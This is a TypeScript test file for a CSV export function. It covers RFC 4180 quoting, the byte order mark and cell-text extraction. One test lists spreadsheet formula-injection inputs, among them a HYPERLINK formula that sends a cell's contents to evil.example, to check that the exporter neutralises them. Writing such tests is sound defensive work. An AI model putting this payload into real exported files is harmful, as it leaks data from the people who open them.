import { expect } from "@open-wc/testing";
import { html } from "lit";
import { label, yesNo } from "../label.ts";
import { deadline, moment } from "../time.ts";
import { textOfCell } from "./cell-text.ts";
import { link } from "./column.ts";
import { csv } from "./csv.ts";

describe("a list as CSV", () => {
    const fields = (...row: string[]) => csv([row]).slice(1).trimEnd();

    it("is what RFC 4180 says: CRLF, and quotes around what needs them, doubled inside", () => {
        expect(
            csv([
                ["Name", "Note"],
                ["ada", 'says "hi", twice\nat least'],
            ]),
        ).to.equal('\u{FEFF}Name,Note\r\nada,"says ""hi"", twice\nat least"\r\n');
    });

    it("begins with a byte order mark, without which Excel breaks umlauts", () => {
        expect([...new TextEncoder().encode(csv([["ä"]]))].slice(0, 3)).to.deep.equal([0xef, 0xbb, 0xbf]);
    });

    it("holds no formulas, however they are begun or hidden (OWASP)", () => {
        for (const attack of ["=1+1", "+1+1", "-1+1", "@SUM(A1)", " =1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠x", "+4930123", "-"])
            expect(fields(attack).replace(/^"/, ""), JSON.stringify(attack)).to.match(/^'/);
        expect(fields('=HYPERLINK("https://evil.example?x="&A1,"x")')).to.equal(`"'=HYPERLINK(""https://evil.example?x=""&A1,""x"")"`);
    });

    it("leaves numbers, and what only looks like one inside", () => {
        expect(fields("-5", "-1.5", "1-2", "a@b.example", "2026-11-27T10:00:00Z")).to.equal("-5,-1.5,1-2,a@b.example,2026-11-27T10:00:00Z");
    });

    it("has the text of cells: names whole, moments as in the API, words of labels; no pictures, no buttons, no dashes", () => {
        const when = "2026-11-27T09:15:00.000Z";
        for (const [cell, text] of [
            ["plain", "plain"],
            [7, "7"],
            [undefined, ""],
            ["–", ""],
            [link("#/x", "oluwaseun.adeyemi@quillmere.example"), "oluwaseun.adeyemi@quillmere.example"],
            [html`<span class="stacked">${link("#/x", "ada")}<small>Ada Lovelace</small></span>`, "ada Ada Lovelace"],
            [yesNo(true, "Yes"), "Yes"],
            [label("Never"), "Never"],
            [moment(when), when],
            [deadline(when), when],
            [moment(null), "Never"],
            [html`a <button>Copy</button><svg><title>x</title></svg> b`, "a b"],
            [
                html`<ul>
                    <li>one</li>
                    <li>two</li>
                </ul>`,
                "one two",
            ],
        ] as const)
            expect(textOfCell(cell)).to.equal(text);
    });
});
